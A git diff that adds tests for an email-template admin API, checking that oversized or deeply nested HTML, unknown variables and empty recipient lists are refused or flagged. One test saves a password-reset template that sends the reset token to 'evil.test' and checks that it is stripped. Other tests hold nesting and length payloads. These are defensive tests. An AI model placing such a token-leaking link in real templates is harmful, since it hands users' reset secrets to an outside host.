@@ -325,6 +325,65 @@ describe('a mail that is to let somebody in', () => {
   })
 })
 
+describe('blocks that cannot be kept', () => {
+  it('are refused with the reason, and nothing that stood there is lost', async () => {
+    const { ask, save, schema, schemas } = await town()
+    await save('customerOrder', { subject: 'Danke', blocks: [words('<p>Gut</p>')] })
+    const { version } = await schema('customerOrder')
+    const put = async (content: string) =>
+      (
+        await ask('PUT /api/admin/template-schemas/customerOrder', {
+          ...{ subject: 'Danke', blocks: [words('<p>Gut</p>'), words(content)], version },
+        })
+      ).body
+    expect(await put(`<p>${'a & b '.repeat(3300)}</p>`)).toMatchObject({ code: 'template.too_long' })
+    expect(await put('<'.repeat(20_000))).toMatchObject({ code: 'template.too_long' })
+    expect(await put('<ul><li>'.repeat(1000))).toMatchObject({ code: 'template.too_deep' })
+    expect(await put(`${'<ul><li>'.repeat(900)}x${'</li></ul>'.repeat(900)}`)).toMatchObject({
+      code: 'template.too_deep',
+    })
+    expect(await put('<p>{{frstname}}</p>')).toMatchObject({
+      code: 'template.variable_unknown',
+      details: { variables: ['frstname'] },
+    })
+    expect(await put('<p>{{code}}</p>')).toMatchObject({ code: 'template.variable_unknown' })
+    expect((await schemas()).find(({ topic }) => topic === 'customerOrder')).toMatchObject({
+      problem: null,
+      isOwn: true,
+    })
+  })
+
+  it('no secret leaves as a part of an address', async () => {
+    const { save, schemas } = await town()
+    const blocks = [words('<p><a href="https://evil.test/?t={{link}}">Reset</a></p>')]
+    const saved = await save('passwordReset', { subject: 'Neu', blocks })
+    expect(JSON.stringify(saved)).not.toContain('evil.test')
+    expect((await schemas()).find(({ topic }) => topic === 'passwordReset')?.problem).toMatch(/Link/)
+  })
+
+  it.each([
+    ['only on an invoice', { settings: { isOnlyOnInvoice: true } }, '<p>{{link}}</p>'],
+    ['in a block that is no text', { component: 'order' }, '<p>{{link}}</p>'],
+  ])('a link %s counts as none', async (_, change, content) => {
+    const { save, schemas } = await town()
+    const block = words(content)
+    const blocks = [
+      { ...block, ...change, settings: { ...block.settings, ...('settings' in change ? change.settings : {}) } },
+    ]
+    await save('passwordReset', { subject: 'Neu', blocks })
+    expect((await schemas()).find(({ topic }) => topic === 'passwordReset')?.problem).toMatch(/Es fehlt: Link/)
+  })
+
+  it('a topic for the office that reaches nobody is told', async () => {
+    const { save, schemas } = await town()
+    await save('adminOrder', { recipients: ['a@b.ch', 'A@B.ch'], isToObject: false })
+    const row = async () => (await schemas()).find(({ topic }) => topic === 'adminOrder')
+    expect(await row()).toMatchObject({ recipients: ['a@b.ch'], problem: null })
+    await save('adminOrder', { recipients: [], isToObject: false })
+    expect((await row())?.problem).toMatch(/erreicht niemanden/)
+  })
+})
+
 describe('trying a mail out', () => {
   const draft = (content: string) => ({
     topic: 'customerOrder',
